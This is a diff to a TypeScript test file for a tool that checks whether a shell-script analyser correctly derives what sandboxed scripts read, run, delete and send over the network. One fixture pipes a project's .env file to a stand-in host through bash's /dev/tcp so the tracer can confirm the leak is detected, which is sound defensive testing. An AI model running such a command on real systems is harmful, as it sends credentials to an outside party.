@@ -5,103 +5,130 @@
 import { describe, expect, test } from 'vitest';
 import { chanceOf } from '../pattern/path-pairs.ts';
 import { cases } from './differential/cases.ts';
-import { type Coverage, coverageOf, effectsOf, showEffects } from './differential/compare.ts';
-import { generate, namesOf, runOf, type Script, textOf } from './differential/generate.ts';
+import { coverageOf, effectsOf, showDeed, showEffects } from './differential/compare.ts';
+import { count, emptyFigures, tableOf } from './differential/figures.ts';
+import { generate, namesOf, type Script } from './differential/generate.ts';
+import { falseExcuses, type Judged, judgeAll } from './differential/judge.ts';
 import { outside } from './differential/outside.ts';
 import { hasDash, whyNot } from './differential/probes.ts';
-import { type Change, runAll } from './differential/sandbox.ts';
-import { type Miss, shrink } from './differential/shrink.ts';
+import { type Deed, hasTracer, runAll } from './differential/sandbox.ts';
+import { shrink } from './differential/shrink.ts';
 import { effort, isFull, seed, tell, timeout } from './effort.ts';
+
+/** Whether an excuse that did not happen fails the campaign; they are counted either way. */
+const excusesMustHold = false;
 
 const reason = await whyNot();
 if (reason !== undefined) console.warn(`scripts are not run, since they cannot be contained: ${reason}`);
 
-test.runIf(isFull)('scripts are contained', () => {
+if (!hasTracer) console.warn('what scripts open, run and connect to is not seen: there is no tracer');
+
+test.runIf(isFull)('scripts are contained, and all that they do is seen', () => {
   expect(reason).toBeUndefined();
+  expect(hasTracer).toBe(true);
 });
 
-const missed = (text: string, changes: readonly Change[]): readonly Change[] => {
+const missed = (text: string, deeds: readonly Deed[]): readonly Deed[] => {
   const effects = effectsOf(text);
-  return changes.filter((change) => coverageOf(change, effects) === 'missed');
+  return deeds.filter((deed) => coverageOf(deed, effects) === 'missed');
 };
-const show = (changes: readonly Change[]): string =>
-  changes.map(({ what, path }) => `${what} ${path}`).join(', ');
 
 describe.runIf(reason === undefined)('what scripts do is derived', () => {
+  test.runIf(hasTracer)('as what they do is seen', { timeout }, () => {
+    const text = `
+      x=$(< a.txt)
+      cp b.txt copied
+      cat .env | (sleep 0.01; cat > /dev/tcp/one.example/80) & wait
+      rm list > /dev/null`;
+    const [outcome] = runAll([{ shell: 'bash', text }]);
+    expect(outcome?.deeds.map(showDeed).sort()).toEqual([
+      'connected to one.example',
+      'created /home/user/project/copied',
+      'deleted /home/user/project/list',
+      'leaked /home/user/project/b.txt',
+      'opened /home/user/project/.env',
+      'opened /home/user/project/a.txt',
+      'opened /home/user/project/b.txt',
+      'ran cat',
+      'ran cat .env',
+      'ran cp b.txt copied',
+      'ran rm list',
+      'ran sleep 0.01',
+      'sent /home/user/project/.env to one.example',
+    ]);
+  });
+
   test('of those that once did more', { timeout }, () => {
     const outcomes = runAll(cases.map((text) => ({ shell: 'bash', text })));
     // A case that does nothing shows nothing.
-    expect(cases.filter((_, at) => outcomes[at]?.changes.length === 0)).toEqual([]);
-    expect(cases.filter((text, at) => missed(text, outcomes[at]?.changes ?? []).length > 0)).toEqual([]);
+    expect(cases.filter((_, at) => outcomes[at]?.deeds.length === 0)).toEqual([]);
+    expect(cases.filter((text, at) => missed(text, outcomes[at]?.deeds ?? []).length > 0)).toEqual([]);
   });
 
   test('except for what is known to be outside', { timeout }, () => {
     const shown = outside.filter(({ shell }) => shell !== 'dash' || hasDash);
     const outcomes = runAll(shown.map(({ example, shell = 'bash' }) => ({ shell, text: example })));
-    expect(shown.filter(({ example, test }, at) => !test(example, outcomes[at]?.said ?? ''))).toEqual([]);
-    const mended = shown.filter(
-      ({ example }, at) => missed(example, outcomes[at]?.changes ?? []).length === 0,
-    );
+    expect(
+      shown.filter(
+        ({ example, test, shell = 'bash' }, at) => !test(example, outcomes[at]?.said ?? '', shell),
+      ),
+    ).toEqual([]);
+    const mended = shown.filter(({ example }, at) => missed(example, outcomes[at]?.deeds ?? []).length === 0);
     expect(mended.map(({ example, why }) => ({ example, why }))).toEqual([]);
   });
 
   test('of generated ones', { timeout }, () => {
-    const all = effort(20_000, 60);
+    const all = effort(20_000, 50);
     const chance = chanceOf(seed);
-    const figures = {
-      effects: 0,
-      certain: 0,
-      possible: 0,
-      anywhere: 0,
-      unknown: 0,
-      missed: 0,
-      outside: 0,
-      quiet: 0,
-    };
-    const misses: Miss[] = [];
+    const figures = emptyFigures();
+    const misses: Judged[] = [];
+    const excuses: Judged[] = [];
     for (let done = 0; done < all; done += 500) {
       const scripts = Array.from({ length: Math.min(500, all - done) }, () => generate(chance)).map(
         (script): Script => (hasDash ? script : { ...script, shell: 'bash' }),
       );
-      for (const [at, { changes, said }] of runAll(scripts.map(runOf)).entries()) {
-        const script = scripts[at];
-        if (script === undefined) continue;
-        if (changes.length === 0) figures.quiet++;
-        const text = textOf(script);
-        const effects = effectsOf(text);
-        const open = changes.filter((change) => {
-          const coverage: Coverage = coverageOf(change, effects);
-          figures.effects++;
-          figures[coverage]++;
-          return coverage === 'missed';
-        });
-        if (open.length === 0) continue;
-        if (outside.some(({ test }) => test(text, said))) figures.outside++;
-        else misses.push({ script, missed: open });
+      for (const judged of judgeAll(scripts)) {
+        count(figures, judged);
+        if (judged.open.length > 0) misses.push(judged);
+        if (falseExcuses(judged).length > 0) excuses.push(judged);
       }
     }
     tell({
       scripts: all,
-      'scripts that changed nothing': figures.quiet,
-      changes: figures.effects,
-      'changes that are certain': figures.certain,
-      'changes that are possible': figures.possible,
-      'changes of a path of which nothing is known': figures.anywhere,
-      'changes that only an unknown part covers': figures.unknown,
+      'scripts that did nothing': figures.quiet,
+      'scripts with a program of another language': figures.code,
+      ...figures.deeds,
       'scripts with a miss that is outside': figures.outside,
+      'scripts with an excuse that did not happen': excuses.length,
     });
-    const shown = shrink(misses.slice(0, 20 * effort(10, 1)));
-    const groups = new Map<string, string>();
-    for (const { script, missed: changes } of shown) {
-      const text = textOf(script);
-      const group = namesOf(script).join(' | ');
-      if (groups.has(group) || groups.size >= 20) continue;
-      groups.set(
-        group,
-        `${script.shell}: ${text}\n  did: ${show(changes)}\n  derived: ${showEffects(effectsOf(text))}`,
-      );
-    }
-    const report = [...groups].map(([group, text]) => `── ${group}\n${text}`).join('\n');
+    if (isFull) console.log(tableOf(figures.constructs));
+    const report = reportOf(misses, ({ open }) => open.length > 0);
     expect(`${misses.length} misses\n${report}`).toBe('0 misses\n');
+    if (!excusesMustHold) return;
+    const excused = reportOf(excuses, (judged) => falseExcuses(judged).length > 0);
+    expect(`${excuses.length} excuses that did not happen\n${excused}`).toBe(
+      '0 excuses that did not happen\n',
+    );
   });
 });
+
+/** Some of what was found, one of each group, as short as they go. */
+function reportOf(found: readonly Judged[], isFound: (judged: Judged) => boolean): string {
+  const groups = new Map<string, string>();
+  for (const judged of shrink(found.slice(0, 20 * effort(10, 1)), isFound)) {
+    const group = namesOf(judged.script).join(' | ');
+    if (!groups.has(group) && groups.size < 20 * effort(10, 1)) groups.set(group, show(judged));
+  }
+  return [...groups].map(([group, text]) => `── ${group}\n${text}`).join('\n');
+}
+
+function show(judged: Judged): string {
+  const { script, text, open, effects } = judged;
+  const excuses = falseExcuses(judged);
+  return [
+    `${script.shell}: ${text}`,
+    ...(open.length === 0 ? [] : [`  did: ${open.map(showDeed).join(', ')}`]),
+    ...(open.length === 0 ? [] : [`  derived: ${showEffects(effects, open)}`]),
+    ...(excuses.length === 0 ? [] : [`  excused by what did not run: ${excuses.join(', ')}`]),
+  ].join('\n');
+}
